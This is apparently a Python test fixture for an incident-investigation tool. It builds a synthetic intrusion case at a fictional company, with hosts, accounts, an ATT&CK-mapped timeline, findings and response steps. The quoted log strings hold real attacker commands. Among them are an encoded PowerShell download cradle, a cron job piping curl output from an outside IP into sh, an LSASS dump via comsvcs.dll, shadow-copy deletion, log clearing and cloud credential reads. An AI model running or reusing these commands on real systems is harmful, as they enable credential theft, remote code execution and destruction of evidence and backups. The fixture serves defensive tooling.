# ruff: noqa: E501 -- command lines of attacks are long
"""A realistic case: twelve hosts, six accounts, forty steps, with the long and odd strings of real logs."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from vedette.schema import (
    AccountKind,
    AccountRole,
    Case,
    CaseAccount,
    CaseHost,
    Claim,
    Evidence,
    Finding,
    HostRole,
    Note,
    PathStep,
    Severity,
    TechniqueUse,
    TimelineEntry,
    Verdict,
)

START = datetime(2026, 3, 4, 8, 41, 12, tzinfo=UTC)

HOSTS = (
    ("ws-finance-0147.corp.northwind.example", HostRole.ENTRY, ("10.20.14.47",)),
    ("ws-finance-0152.corp.northwind.example", HostRole.TARGET, ("10.20.14.52",)),
    ("srv-file-02.corp.northwind.example", HostRole.TARGET, ("10.20.1.22", "fe80::a1b2:c3d4")),
    ("srv-sql-reporting-01.corp.northwind.example", HostRole.TARGET, ("10.20.1.41",)),
    ("dc-01.corp.northwind.example", HostRole.TARGET, ("10.20.0.10",)),
    ("dc-02.corp.northwind.example", HostRole.AFFECTED, ("10.20.0.11",)),
    ("srv-backup-01", HostRole.TARGET, ("10.20.1.60",)),
    ("srv-jump-linux-01", HostRole.SOURCE, ("10.20.2.5",)),
    ("build-runner-7", HostRole.TARGET, ("10.20.3.17",)),
    ("i-0a1b2c3d4e5f67890", HostRole.TARGET, ("172.31.4.9",)),
    ("vpn-gw-a", HostRole.AFFECTED, ("10.20.0.1", "198.51.100.7")),
    ("printserver-Zürich-Büro-β", HostRole.AFFECTED, ("10.20.9.3",)),
)
H = [name for name, _, _ in HOSTS]

ACCOUNTS = (
    ("NORTHWIND\\m.oyelaran", AccountKind.USER, AccountRole.COMPROMISED, 0.97),
    ("NORTHWIND\\svc-backup-replication-prod", AccountKind.SERVICE, AccountRole.COMPROMISED, 0.93),
    ("assumed-role/FinanceAnalyticsReadWriteRole/m.oyelaran@northwind.example", AccountKind.CLOUD_ROLE,
     AccountRole.ATTACKER, 0.91),
    ("NORTHWIND\\sqlhelper$adm", AccountKind.USER, AccountRole.CREATED, 0.88),
    ("NORTHWIND\\administrator", AccountKind.USER, AccountRole.TARGETED, 0.74),
    ("deploy", AccountKind.USER, AccountRole.BYSTANDER, 0.66),
)  # fmt: skip

STEPS: tuple[tuple[int, str, str, str, Severity, int, int, str], ...] = (
    # minutes, text, tactic, techniques, severity, host, account, quote
    (0, "A macro document started PowerShell with an encoded command", "initial-access", "T1566.001 T1059.001",
     Severity.HIGH, 0, 0, "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAA=="),
    (1, "PowerShell fetched a second stage from 198.51.100.23", "command-and-control", "T1105 T1071.001",
     Severity.HIGH, 0, 0, "http://198.51.100.23/a"),
    (2, "rundll32.exe ran a DLL from the user's AppData folder", "defense-evasion", "T1218.011",
     Severity.MEDIUM, 0, 0, "rundll32.exe C:\\Users\\m.oyelaran\\AppData\\Roaming\\Microsoft\\Teams\\cache\\msteams_update.dll,Start"),
    (3, "A Run key was set so that the DLL starts at every logon", "persistence", "T1547.001",
     Severity.MEDIUM, 0, 0, "HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TeamsUpdater"),
    (6, "whoami, nltest and net group were run within 40 seconds", "discovery", "T1033 T1482 T1069.002",
     Severity.LOW, 0, 0, "net group \"Domain Admins\" /domain"),
    (9, "Local network swept for SMB: 212 addresses in 90 seconds", "discovery", "T1046", Severity.MEDIUM, 0, 0,
     "10.20.14.47 -> 10.20.0.0/20:445"),
    (14, "LSASS memory was opened by rundll32.exe with full access", "credential-access", "T1003.001",
     Severity.CRITICAL, 0, 0, "GrantedAccess 0x1FFFFF CallTrace C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000217B2A40000)"),
    (15, "comsvcs.dll MiniDump of process 712 was written to disk", "credential-access", "T1003.001",
     Severity.CRITICAL, 0, 0, "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full"),
    (22, "Network logon with NTLM from ws-finance-0147", "lateral-movement", "T1550.002", Severity.HIGH, 1, 1,
     "LogonType 3 NTLM 10.20.14.47"),
    (24, "A service with a random name was installed and started", "execution", "T1569.002", Severity.HIGH, 1, 1,
     "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"),
    (26, "Scheduled task created remotely", "persistence", "T1053.005", Severity.MEDIUM, 1, 1,
     "\\Microsoft\\Windows\\UpdateOrchestrator\\SyncHelper"),
    (31, "Network logon to the file server with the service account", "lateral-movement", "T1021.002",
     Severity.HIGH, 2, 1, "LogonType 3 NTLM 10.20.14.52"),
    (33, "1,904 files of the share Finanzen\\Abschlüsse 2025 were read in 4 minutes", "collection", "T1039",
     Severity.MEDIUM, 2, 1, "\\\\srv-file-02\\Finanzen\\Abschlüsse 2025\\Konsolidierung – vertraulich.xlsx"),
    (41, "An archive was made of the collected files", "collection", "T1560.001", Severity.MEDIUM, 2, 1,
     "rar.exe a -hp -m5 C:\\PerfLogs\\r.rar \\\\srv-file-02\\Finanzen\\*"),
    (48, "Remote desktop session opened to the reporting database", "lateral-movement", "T1021.001",
     Severity.HIGH, 3, 1, "LogonType 10 10.20.14.52"),
    (52, "xp_cmdshell was switched on", "execution", "T1059.003 T1505.001", Severity.HIGH, 3, 1,
     "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;"),
    (55, "Account sqlhelper$adm was created", "persistence", "T1136.002", Severity.HIGH, 4, 1,
     "TargetUserName sqlhelper$adm"),
    (56, "sqlhelper$adm was added to Domain Admins", "privilege-escalation", "T1098", Severity.CRITICAL, 4, 1,
     "Group Domain Admins Member CN=sqlhelper,OU=Service,DC=corp"),
    (61, "Directory replication was asked for by an account that is no domain controller", "credential-access",
     "T1003.006", Severity.CRITICAL, 4, 3, "Properties {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"),
    (63, "Directory replication repeated against the second domain controller", "credential-access", "T1003.006",
     Severity.HIGH, 5, 3, "Properties {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"),
    (66, "214 failed Kerberos logons for administrator", "credential-access", "T1110.001", Severity.MEDIUM, 4, 4,
     "Status 0x18 10.20.14.52"),
    (74, "Security log was cleared", "defense-evasion", "T1070.001", Severity.HIGH, 3, 3, "wevtutil cl Security"),
    (80, "Backup server reached over WinRM", "lateral-movement", "T1021.006", Severity.HIGH, 6, 3,
     "wsmprovhost.exe -Embedding"),
    (84, "Shadow copies were deleted", "impact", "T1490", Severity.CRITICAL, 6, 3,
     "vssadmin delete shadows /all /quiet"),
    (97, "SSH logon with a key that was never used before", "lateral-movement", "T1021.004", Severity.MEDIUM, 7, 5,
     "Accepted publickey for deploy from 10.20.1.60 port 51122 ssh2: ED25519 SHA256:9Q3x"),
    (99, "Shell history was linked to /dev/null", "defense-evasion", "T1070.003", Severity.MEDIUM, 7, 5,
     "ln -sf /dev/null /home/deploy/.bash_history"),
    (101, "Cloud credentials were read from disk", "credential-access", "T1552.001", Severity.HIGH, 7, 5,
     "cat /home/deploy/.aws/credentials"),
    (104, "Build runner reached by SSH from the jump host", "lateral-movement", "T1021.004", Severity.MEDIUM, 8, 5,
     "Accepted publickey for deploy from 10.20.2.5 port 40022 ssh2"),
    (108, "A cron entry fetching a script every ten minutes was added", "persistence", "T1053.003", Severity.MEDIUM,
     8, 5, "*/10 * * * * curl -fsSL http://198.51.100.23/c | sh"),
    (118, "Role FinanceAnalyticsReadWriteRole was assumed from an address never seen before", "initial-access",
     "T1078.004", Severity.HIGH, 9, 2, "AssumeRole sourceIPAddress 203.0.113.77 userAgent aws-cli/2.15 Python/3.11"),
    (120, "GetCallerIdentity, ListBuckets and ListRoles in 20 seconds", "discovery", "T1580 T1087.004",
     Severity.LOW, 9, 2, "ListBuckets"),
    (126, "Bucket policy was changed to allow any principal", "defense-evasion", "T1562.007", Severity.CRITICAL, 9, 2,
     "PutBucketPolicy northwind-finance-exports {\"Principal\":\"*\"}"),
    (128, "4,812 objects were read from northwind-finance-exports", "exfiltration", "T1530", Severity.CRITICAL, 9, 2,
     "GetObject s3://northwind-finance-exports/2025/q4/ledger.parquet"),
    (140, "11.4 GB left for 198.51.100.23 over HTTPS", "exfiltration", "T1048.002", Severity.CRITICAL, 2, 1,
     "orig_bytes 12240656794 198.51.100.23:443"),
    (145, "VPN gateway logged a second session of m.oyelaran from another country", "initial-access", "T1133",
     Severity.MEDIUM, 10, 0, "user=m.oyelaran src=203.0.113.77 country=??"),
    (150, "Print server queried for driver folders", "discovery", "T1083", Severity.LOW, 11, 1,
     "dir \\\\printserver-Zürich-Büro-β\\print$ /s"),
    (2890, "The scheduled task SyncHelper ran again after the weekend", "execution", "T1053.005", Severity.MEDIUM, 1, 1,
     "\\Microsoft\\Windows\\UpdateOrchestrator\\SyncHelper"),
    (2893, "Beacon to 198.51.100.23 every 60 seconds, jitter under 5 %", "command-and-control", "T1071.001 T1573",
     Severity.HIGH, 1, 1, "198.51.100.23:443 x 412"),
    (2911, "Access key created for a second user", "persistence", "T1098.001", Severity.HIGH, 9, 2,
     "CreateAccessKey userName=finance-etl"),
    (2920, "CloudTrail logging was stopped", "defense-evasion", "T1562.008", Severity.CRITICAL, 9, 2,
     "StopLogging arn:aws:cloudtrail:eu-central-1:111122223333:trail/org-trail"),
)  # fmt: skip

NAMES = {
    "T1566.001": "Spearphishing Attachment", "T1059.001": "PowerShell", "T1105": "Ingress Tool Transfer",
    "T1218.011": "Rundll32", "T1547.001": "Registry Run Keys / Startup Folder", "T1482": "Domain Trust Discovery",
    "T1046": "Network Service Discovery", "T1003.001": "LSASS Memory", "T1550.002": "Pass the Hash",
    "T1569.002": "Service Execution", "T1053.005": "Scheduled Task", "T1021.002": "SMB/Windows Admin Shares",
    "T1039": "Data from Network Shared Drive", "T1021.001": "Remote Desktop Protocol",
    "T1136.002": "Domain Account", "T1098": "Account Manipulation", "T1003.006": "DCSync",
    "T1110.001": "Password Guessing", "T1070.001": "Clear Windows Event Logs", "T1490": "Inhibit System Recovery",
    "T1552.001": "Credentials In Files", "T1078.004": "Cloud Accounts", "T1530": "Data from Cloud Storage",
    "T1048.002": "Exfiltration Over Asymmetric Encrypted Non-C2 Protocol", "T1562.008": "Disable or Modify Cloud Logs",
}  # fmt: skip


def event_id(number: int) -> str:
    return hashlib.sha256(f"sample {number}".encode()).hexdigest()[:32]


def _evidence(number: int, minutes: float, quote: str = "") -> Evidence:
    return Evidence(ref=event_id(number), at=START + timedelta(minutes=minutes), quote=quote)


def _host(index: int) -> str:
    return f"host:{H[index].split('.')[0].lower()}"


def _account(index: int) -> str:
    return f"account:{ACCOUNTS[index][0].lower()}"


def _step_evidence(number: int) -> tuple[Evidence, ...]:
    minutes, *_, quote = STEPS[number]
    first = _evidence(number * 10, minutes, quote)
    return (first, _evidence(number * 10 + 1, minutes + 0.5)) if number % 3 == 0 else (first,)


def sample_case() -> Case:
    """Return the case; the same at every call."""
    timeline = tuple(
        TimelineEntry(
            at=START + timedelta(minutes=minutes),
            text=f"{text} on {H[host]}.",
            tactic=tactic,
            techniques=tuple(techniques.split()),
            severity=severity,
            host=H[host],
            account=ACCOUNTS[account][0],
            evidence=_step_evidence(number),
            count=1 + number * 7 % 23,
        )
        for number, (minutes, text, tactic, techniques, severity, host, account, _) in enumerate(STEPS)
    )
    reasons = (
        (
            ("m.oyelaran opened the document whose macro started the encoded PowerShell command.", (0, 1)),
            ("The account's session 0x3e7a41 on ws-finance-0147 holds every later step up to the LSASS dump.", (6, 7)),
            ("A VPN session from 203.0.113.77 began while the user was logged on in the office.", (34,)),
        ),
        (
            ("svc-backup-replication-prod logged on by NTLM from ws-finance-0147, where it never had a session.", (8,)),
            ("It made sqlhelper$adm and put it in Domain Admins.", (16, 17)),
        ),
        (
            (
                "The role was assumed from 203.0.113.77 seventeen minutes after deploy's credentials were read.",
                (26, 29),
            ),
            ("The session changed the bucket policy and read 4,812 objects.", (31, 32)),
            ("It stopped the trail that would have recorded what followed.", (39,)),
        ),
        (("Created during the attack by svc-backup-replication-prod, then used for directory replication.", (16, 18)),),
        (("214 failed logons in one minute, none of them successful.", (20,)),),
        (("Its key was used from a host the attacker held; nothing says that the key left that host.", (24, 27)),),
    )
    accounts = tuple(
        CaseAccount(
            name=name,
            entity_id=_account(i),
            account_kind=kind,
            role=role,
            confidence=confidence,
            reasons=tuple(
                Claim(text=text, evidence=tuple(e for s in steps for e in _step_evidence(s)), checked=True)
                for text, steps in reasons[i]
            ),
            aliases=(f"S-1-5-21-3623811015-3361044348-30300820-{1013 + i}",),
            first_at=START + timedelta(minutes=i * 10),
            last_at=START + timedelta(minutes=2920 - i * 3),
            hosts=tuple(dict.fromkeys(H[s[5]] for s in STEPS if s[6] == i)),
        )
        for i, (name, kind, role, confidence) in enumerate(ACCOUNTS)
    )
    hosts = tuple(
        CaseHost(
            name=name,
            entity_id=_host(i),
            role=role,
            addresses=addresses,
            reasons=(
                Claim(
                    text=f"{sum(s[5] == i for s in STEPS)} steps of the attack were recorded on {name}.",
                    evidence=tuple(e for n, s in enumerate(STEPS) if s[5] == i for e in _step_evidence(n)),
                    checked=True,
                ),
            ),
            first_at=START + timedelta(minutes=min(s[0] for s in STEPS if s[5] == i)),
            last_at=START + timedelta(minutes=max(s[0] for s in STEPS if s[5] == i)),
        )
        for i, (name, role, addresses) in enumerate(HOSTS)
    )
    edges = (
        ("ip:198.51.100.23", _host(0), "payload fetched", 1, "T1105"),
        (_account(0), _host(0), "interactive logon", 0, "T1078"),
        (_host(0), _host(1), "logon type 3, pass the hash", 8, "T1550.002"),
        (_host(0), _host(2), "logon type 3, admin share", 11, "T1021.002"),
        (_host(1), _host(2), "logon type 3, admin share", 11, "T1021.002"),
        (_host(1), _host(3), "remote desktop", 14, "T1021.001"),
        (_host(3), _host(4), "account made on the domain controller", 16, "T1136.002"),
        (_host(3), _host(5), "directory replication", 19, "T1003.006"),
        (_host(4), _host(6), "WinRM", 22, "T1021.006"),
        (_host(6), _host(7), "SSH with stolen key", 24, "T1021.004"),
        (_host(7), _host(8), "SSH", 27, "T1021.004"),
        (_host(7), _account(2), "credentials read, role assumed", 29, "T1078.004"),
        (_account(2), _host(9), "API calls", 30, "T1580"),
        (_account(2), "resource:s3://northwind-finance-exports", "4,812 objects read", 32, "T1530"),
        (_host(2), "ip:198.51.100.23", "11.4 GB sent", 33, "T1048.002"),
        (_host(1), _host(11), "share listed", 35, "T1083"),
    )
    path = tuple(
        PathStep(
            source=source,
            target=target,
            label=label,
            at=START + timedelta(minutes=STEPS[step][0]),
            evidence=_step_evidence(step),
            techniques=(technique,),
        )
        for source, target, label, step, technique in edges
    )
    used: dict[str, list[int]] = {}
    for number, s in enumerate(STEPS):
        for technique in s[3].split():
            used.setdefault(technique, []).append(number)
    techniques = tuple(
        TechniqueUse(
            technique_id=technique,
            name=NAMES.get(technique, ""),
            tactics=tuple(dict.fromkeys(STEPS[n][2] for n in numbers)),
            count=len(numbers) + (ord(technique[-1]) % 3),
            evidence=tuple(e for n in numbers for e in _step_evidence(n)),
        )
        for technique, numbers in sorted(used.items())
    )
    findings = tuple(
        Finding(
            finding_id=hashlib.sha256(f"finding {number}".encode()).hexdigest()[:16],
            rule_id=f"0f6c1a2e-7d3b-4c5a-9e8f-{number:012d}",
            title=s[1],
            kind="sigma",
            severity=s[4],
            confidence=0.6 + s[4].rank / 12,
            first_at=START + timedelta(minutes=s[0]),
            last_at=START + timedelta(minutes=s[0] + 1),
            count=1 + number * 7 % 23,
            evidence=_step_evidence(number),
            device_name=H[s[5]],
            accounts=(ACCOUNTS[s[6]][0],),
            techniques=tuple(s[3].split()),
            tactics=(s[2],),
        )
        for number, s in enumerate(STEPS)
    )
    return Case(
        case_id="case-7f3a90c1",
        title="Finance workstation compromised; domain taken over and cloud ledger copied out",
        severity=Severity.CRITICAL,
        confidence=0.982,
        first_at=START,
        last_at=START + timedelta(minutes=2920),
        summary=(
            Claim(
                text="A macro document opened by NORTHWIND\\m.oyelaran on ws-finance-0147 gave an attacker domain "
                "administrator rights within 56 minutes and 4,812 finance objects from cloud storage after 2 h 8 min.",
                evidence=_step_evidence(0) + _step_evidence(17) + _step_evidence(32),
                checked=True,
            ),
            Claim(
                text="Credentials were dumped from LSASS memory on ws-finance-0147 and used on nine further hosts.",
                evidence=_step_evidence(6) + _step_evidence(7) + _step_evidence(8),
                checked=True,
            ),
            Claim(
                text="The attacker made one account, sqlhelper$adm, and added it to Domain Admins.",
                evidence=_step_evidence(16) + _step_evidence(17),
                checked=True,
            ),
            Claim(text="11.4 GB left srv-file-02 for 198.51.100.23.", evidence=_step_evidence(33), checked=True),
            Claim(
                text="CloudTrail logging was stopped two days later, so what followed in that account is not recorded.",
                evidence=_step_evidence(39),
                checked=True,
            ),
        ),
        findings=findings,
        accounts=accounts,
        hosts=hosts,
        timeline=timeline,
        path=path,
        techniques=techniques,
        observables=(
            ("ip", "198.51.100.23"),
            ("ip", "203.0.113.77"),
            ("url", "http://198.51.100.23/a"),
            ("file", "C:\\Users\\m.oyelaran\\AppData\\Roaming\\Microsoft\\Teams\\cache\\msteams_update.dll"),
            ("hash", "SHA256=" + hashlib.sha256(b"sample dll").hexdigest()),
            ("access_key", "AKIAIOSFODNN7EXAMPLE"),
        ),
        unknown=(
            "How did the macro document reach m.oyelaran? No mail log covers 2026-03-04.",
            "Were the shadow copies on srv-backup-01 the only backups? No log of the off-site copy was given.",
            "What happened in cloud account 111122223333 after 2026-03-06 09:21:12, when CloudTrail was stopped?",
            "Did anyone read northwind-finance-exports while any principal was allowed to? Data events cover one region.",
            "Is the key of deploy held anywhere but on srv-jump-linux-01?",
        ),
        next_steps=(
            "Disable NORTHWIND\\m.oyelaran, NORTHWIND\\svc-backup-replication-prod and NORTHWIND\\sqlhelper$adm, and end "
            "their sessions.",
            "Reset the krbtgt password twice: directory replication was answered by two domain controllers.",
            "Revoke the sessions of FinanceAnalyticsReadWriteRole and delete the access key made for finance-etl.",
            "Restore the bucket policy of northwind-finance-exports and switch CloudTrail on again.",
            "Isolate ws-finance-0147, ws-finance-0152 and srv-file-02, and take memory images before they restart.",
            "Block 198.51.100.23 and 203.0.113.77, and look for both in proxy and VPN logs of the last 90 days.",
        ),
        n_events=1_284_331,
        sources=("windows-evtx", "zeek", "cloudtrail", "auditd"),
        notes=(
            Note(
                at=START + timedelta(days=3),
                author="r.castellanos",
                text="Mail gateway export asked for; the user confirms opening ‘Invoice_0388.docm’.",
            ),
        ),
    )


def sample_events(ids: Sequence[str]) -> Mapping[str, Mapping[str, Any]]:
    """Return the sample's events as the lake would: columns by event id."""
    known: dict[str, dict[str, Any]] = {}
    for number, (minutes, _, _, _, _, host, account, quote) in enumerate(STEPS):
        domain, _, name = ACCOUNTS[account][0].rpartition("\\")
        for extra in (0, 1):
            known[event_id(number * 10 + extra)] = {
                "time": START + timedelta(minutes=minutes + extra * 0.5),
                "class_name": "process_activity",
                "activity": "launch",
                "source": "windows/security",
                "device_name": H[host],
                "actor_name": name,
                "actor_domain": domain or None,
                "process_cmd": quote,
            }
    return {i: known[i] for i in ids if i in known}


def large_case(n_steps: int = 10_000, n_accounts: int = 500, n_hosts: int = 300) -> Case:
    """Return a case of that size, made of the sample's parts."""
    base = sample_case()
    return replace(
        base,
        timeline=tuple(
            replace(
                base.timeline[n % len(base.timeline)],
                at=START + timedelta(seconds=n * 17),
                evidence=(_evidence(100_000 + n, n * 17 / 60, f"cmd.exe /c step {n}"),),
            )
            for n in range(n_steps)
        ),
        accounts=tuple(
            replace(base.accounts[n % len(base.accounts)], name=f"NORTHWIND\\user{n:05d}", entity_id=f"account:u{n}")
            for n in range(n_accounts)
        ),
        hosts=tuple(
            replace(base.hosts[n % len(base.hosts)], name=f"host{n:05d}.corp.northwind.example", entity_id=f"host:h{n}")
            for n in range(n_hosts)
        ),
        path=tuple(
            replace(base.path[n % len(base.path)], source=f"host:h{n // 3}", target=f"host:h{n + 1}")
            for n in range(n_hosts - 1)
        ),
        verdict=Verdict.TRUE_POSITIVE,
    )
